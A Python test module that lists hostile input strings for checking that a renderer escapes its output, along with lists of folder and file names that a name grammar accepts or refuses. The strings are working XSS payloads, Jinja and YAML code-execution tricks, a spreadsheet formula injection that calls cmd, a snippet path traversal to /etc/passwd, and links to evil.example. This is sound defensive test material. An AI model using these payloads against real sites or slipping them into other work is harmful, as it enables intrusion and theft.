r"""Our own hostile texts: one for each output context, with what it tries.

`RUN` is the code that a successful text executes. The length of the list is prime, so that rotating it over the fields of a
brief gives each field each text once.
"""

from __future__ import annotations

from tests.vectors.published import Vector

RUN = "alert(1)"
_IMG = f"<img src=x onerror={RUN}>"
_LONG = "A" * 200

_TEXTS: dict[str, str] = {
    # elements
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT >",
    "image": _IMG,
    "image with slashes": f"<img/src/onerror={RUN}>",
    "unclosed image": f"<img src=x onerror={RUN} ",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg link": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_IMG}">',
    "math link": f'<math href="javascript:{RUN}">x</math>',
    "annotation": f'<math><annotation-xml encoding="text/html">{_IMG}</annotation-xml></math>',
    "noscript": f'<noscript><p title="</noscript>{_IMG}">x',
    "template": f"<template>{_IMG}</template><template shadowrootmode=open>{_IMG}</template>",
    "focus": f"<input autofocus onfocus={RUN}><p tabindex=1 onfocus={RUN}>x",
    "frame of text": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame of data": f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
    "object": f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": f'<form action="https://evil.example/"><input name=password><button formaction="javascript:{RUN}">x</button></form>',
    "style": '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
    "style attribute": '<p style="background:url(https://evil.example/x.png);position:fixed;inset:0">x</p>',
    "stylesheet": '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/">',
    "remote image": '<img src="https://evil.example/x.png"><video poster="https://evil.example/y.png"></video>',
    "raw text elements": f"<xmp><noembed><noframes><plaintext>{_IMG}",
    "custom element": f"<x-y onclick={RUN} onpointerover={RUN} style=animation:spin onanimationstart={RUN}>x</x-y>",
    "popover": f"<button popovertarget=zz>x</button><p popover id=zz onbeforetoggle={RUN}>y</p>",
    # ends of enclosing contexts
    "end of attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "end of attribute with apostrophe": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "end of attribute and tag": f'">{_IMG}<a href="',
    "end of attribute and tag with apostrophe": f"'>{_IMG}<a href='",
    "attribute without quotation marks": f"x onclick={RUN} tabindex=1 onfocus={RUN}",
    "end of title": f"</title><script>{RUN}</script>",
    "end of script": f"</script><script>{RUN}</script>",
    "comment and script": f"<!--<script>{RUN}//--></script>{_IMG}",
    "end of style": f"</style></textarea></noscript>{_IMG}",
    "end of code": f"</code></pre>{_IMG}",
    "end of comment": f"--><!-->{_IMG}<!--",
    "unclosed comment": "x <!-- y",
    "unclosed attribute": '<a href="https://example.org/',
    "end of cdata": f"]]><![CDATA[{_IMG}]]>",
    "end of svg text": f"</text></svg>{_IMG}<svg><text>",
    "end of heading": f"x</h1></div></section></article>{_IMG}",
    # Markdown
    "javascript link": f"[x](javascript:{RUN}) <javascript:{RUN}>",
    "javascript link in disguise": f"[x](JaVa&#115;cript&colon;{RUN}) [y](java&Tab;script:{RUN}) [z](&#1;javascript:{RUN})",
    "javascript reference": f"[x][r]\n\n[r]: javascript:{RUN}",
    "data link": f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [y](vbscript:{RUN})",
    "link with a title": f"[x](https://example.org 'y\" onmouseover=\"{RUN}')",
    "link with attributes": f'[x](https://example.org){{: onclick="{RUN}" href="javascript:{RUN}" }}',
    "attributes of a block": f'x\n{{: onclick="{RUN}" onmouseover="{RUN}" }}',
    "attributes of a heading": f"# x {{: onclick={RUN} }}\n\n* y {{ onclick={RUN} }}",
    "image in Markdown": f'![x](https://evil.example/x.png) ![y" onerror="{RUN}](x)',
    "image in a link in a link": f"[![x](y){{onerror={RUN}}}](javascript:{RUN})",
    "code and fences": f'```html {{: onclick="{RUN}" }}\n{_IMG}\n```\n\n`x`{{: onclick={RUN} }}',
    "html block": f"/// html | script\n{RUN}\n///\n\n!!! note {_IMG}\n\n??? x\n    {_IMG}",
    "table": f"| a | b |\n|---|---|\n| {_IMG} | [x](javascript:{RUN}) |",
    "footnote": f"x[^1]\n\n[^1]: {_IMG}\n\n*[HTML]: {_IMG}",
    "link to a brief": f"[[vec-actor-00|{_IMG}]] [[vec-actor-00|x](javascript:{RUN})]]",
    "link to nothing": f'[[{_IMG}]] [["onclick={RUN}|x]]',
    "citation": f'x [@vec-source-00, {_IMG}] [@vec-source-00, p. 1" onclick="{RUN}]',
    "marks of stashes": f"\u0002wzxhzdk:0\u0003 \u0002amp\u0003 \u0002{_IMG}\u0003 klzzwxh:0000",
    "address in angle brackets": f'<https://evil.example/"onclick="{RUN}> https://evil.example/?"onmouseover="{RUN}',
    "snippet": '--8<-- "mkdocs.yml"\n\n;--8<-- "../../../etc/passwd"',
    # entities and encodings
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62; &amp;lt;img src=x onerror={RUN}&amp;gt;",
    "escapes of JSON": rf"\u003cimg src=x onerror={RUN}\u003e \" \\ \n",
    "after a blank line": f'x\n\n[x](javascript:{RUN})\n{{: onclick="{RUN}" }}\n\n* y {{ onclick={RUN} }}\n\n/// html | script\n{RUN}\n///\n\n{_IMG}',
    # other languages
    "Jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{{ config }}{# x #}",
    "template literal": "${" + RUN + "} `${" + RUN + "}` {{constructor.constructor('" + RUN + "')()}}",
    "front matter": f'x\n---\ntitle: {_IMG}\ntemplate: main.html\n---\n{_IMG}"\ny: "z',
    "tag of YAML": f"!!python/object/apply:os.system ['id'] &a *a {_IMG}",
    "formula": '=HYPERLINK("https://evil.example/","x") +cmd|\' /C calc\'!A0 @SUM(1)',
    "BibTeX": f"x}}, url = {{javascript:{RUN}}}, note = {{{_IMG}\n}}\n@misc{{evil, title={{y}}",
    "RIS": f"x\nER  - \nTY  - GEN\nUR  - javascript:{RUN}\n",
    "clobbering": "<a id=__config name=__md_get href=x></a><form id=__md_scope><input name=body></form><img name=currentScript>",
    "anchor": f'# __config\n\n<a name="{_IMG}" id="x">\n\n## {_IMG} {{#__config}}',
    # visual spoofing
    "direction": f"x \u202e{_IMG}\u202c \u2066y\u2069",
    "no width": f"<scr\u200bipt>{RUN}</scr\u00adipt>\ufeff",
    "line separators": f"x\u2028{RUN}\u2029</script>{_IMG}",
    "long": f"{_LONG}{_IMG}{_LONG} \"'{_LONG}>{_IMG}",
}


def own() -> tuple[Vector, ...]:
    """Return our own texts, in the order of the list."""
    return tuple(Vector(name, text) for name, text in _TEXTS.items())


FOLDERS = (
    f"x onfocus={RUN} autofocus tabindex=1",
    f"=HYPERLINK({RUN})",
    f"@SUM(1)+{RUN}",
    f"-e {RUN}",
    "~root",
    f"’ onmouseover={RUN} x=’",
    f"‹img src=x onerror={RUN}›",
    "…..",
    "“quoted”",
    "אבג (x)",
    "a..b, c.. !important",
    "e\u0301 字",
    "２０３１",
)
"""Hostile names of folders that the grammar of names lets through."""
REFUSED_NAMES = (
    f'"><img src=x onerror={RUN}>',
    f"' onfocus={RUN} x='",
    f"＜img src=x onerror={RUN}＞",
    f"[x](javascript:{RUN})",
    "{{ 7*7 }}",
    "`x`",
    "a&lt;b",
    "a\u202eb",
    "a\x1b[31mb",
    "a\nb",
    "a\u2028b",
    "a?b#c",
    "a%22b",
    "a\\b",
    "a|b",
    "a$b",
    "a*b",
    "a:b",
    "a;b",
    "a\u200bb",
)
"""Names of files and folders that the grammar of names refuses."""
